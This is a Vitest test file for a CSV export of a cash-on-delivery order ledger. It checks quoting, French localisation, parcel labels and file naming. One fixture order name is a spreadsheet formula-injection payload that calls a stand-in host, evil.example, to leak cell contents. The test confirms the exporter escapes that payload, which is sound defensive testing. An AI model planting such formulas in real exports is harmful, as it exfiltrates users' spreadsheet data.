import { expect, test } from "vitest";
import { ledgerCsv, ledgerCsvFileName } from "./csv";
import type { CodLedger, LedgerOrder } from "./summarise";

const base: LedgerOrder = {
  id: "row1",
  orderName: "#1001",
  currency: "XOF",
  amountMinor: 1_500_000,
  paymentState: "COD_PENDING",
  shipmentState: "in_transit",
  sentAt: "2026-11-20T10:00:00.000Z",
  codCollectedAt: null,
  shopifyPaidAt: null,
};
const ledger: CodLedger = {
  from: "2026-10-25",
  to: "2026-11-23",
  timeZone: "Africa/Nairobi",
  asOf: "2026-11-23T12:00:00.000Z",
  currencies: [],
  orders: {
    onTheRoad: [base],
    collected: [
      {
        ...base,
        id: "row2",
        orderName: 'Order "2", Dakar',
        currency: "EUR",
        amountMinor: 4199,
        codCollectedAt: "2026-11-22T22:30:00.000Z",
        shopifyPaidAt: "2026-11-22T09:01:00.000Z",
      },
    ],
    needsLook: [
      {
        ...base,
        id: "row3",
        orderName: '-1+HYPERLINK("http://evil.example/?"&A1,"x")',
        shipmentState: "returned",
        reason: "RETURNED",
      },
    ],
  },
};

const terms = { timeZone: "Africa/Nairobi", currency: "XOF", moneyFormat: "{{amount_no_decimals}} FCFA" };

test("the ledger's CSV has one line per order and figure, amounts in the currency's decimals, quoted and formula-safe cells", () => {
  expect(ledgerCsv(ledger, terms).split("\r\n")).toEqual([
    "section,reason,order,order_id,currency,amount_minor,amount,recorded_in_shopify,payment_state,shipment_state,sent_at,cod_collected_at,shopify_paid_at,cod_collected_day,amount_formatted,time_zone",
    'on_the_road,,#1001,row1,XOF,1500000,15000,,COD_PENDING,in_transit,2026-11-20T10:00:00.000Z,,,,"15,000 FCFA",Africa/Nairobi',
    'collected,,"Order ""2"", Dakar",row2,EUR,4199,41.99,true,COD_PENDING,in_transit,2026-11-20T10:00:00.000Z,2026-11-22T22:30:00.000Z,2026-11-22T09:01:00.000Z,2026-11-23,41.99 EUR,Africa/Nairobi',
    'needs_look,RETURNED,"\'-1+HYPERLINK(""http://evil.example/?""&A1,""x"")",row3,XOF,1500000,15000,,COD_PENDING,returned,2026-11-20T10:00:00.000Z,,,,"15,000 FCFA",Africa/Nairobi',
    "",
  ]);
});

test("in French: a byte order mark, semicolons, French headers, decimal commas, the amount in French", () => {
  const [header, ...lines] = ledgerCsv(ledger, terms, "fr").split("\r\n");
  expect(header).toBe(
    "\uFEFFRubrique;Motif;Commande;Identifiant de la commande;Devise;Montant (centièmes);Montant;Enregistré dans Shopify;État du paiement;État de l'expédition;Transmise le;Encaissée le;Payée dans Shopify le;Jour de l'encaissement;Montant affiché;Fuseau horaire",
  );
  expect(lines[0]).toBe(
    "on_the_road;;#1001;row1;XOF;1500000;15000;;COD_PENDING;in_transit;2026-11-20T10:00:00.000Z;;;;15\u202f000 FCFA;Africa/Nairobi",
  );
  expect(lines[1]).toContain(";EUR;4199;41,99;true;");
  expect(lines[2]).toContain(';"\'-1+HYPERLINK(""http://evil.example/?""&A1,""x"")";row3;');
});

test("a parcel of an order over several locations names its order and which parcel it is, in both languages", () => {
  const parcels: CodLedger = {
    ...ledger,
    orders: {
      onTheRoad: [1, 2].map((number) => ({ ...base, id: `p${number}`, parcel: { number, count: 2 } })),
      collected: [],
      needsLook: [],
    },
  };
  const english = ledgerCsv(parcels, terms).split("\r\n");
  expect(english[1]).toMatch(/^on_the_road,,#1001 · parcel 1 of 2,p1,/);
  expect(english[2]).toMatch(/^on_the_road,,#1001 · parcel 2 of 2,p2,/);
  expect(ledgerCsv(parcels, terms, "fr").split("\r\n")[2]).toMatch(/^on_the_road;;#1001 · colis 2 sur 2;p2;/);
});

test("the download is named after the shop and the period", () => {
  expect(ledgerCsvFileName("dakar-shop.myshopify.com", ledger)).toBe("cod-ledger_dakar-shop_2026-10-25_2026-11-23.csv");
});
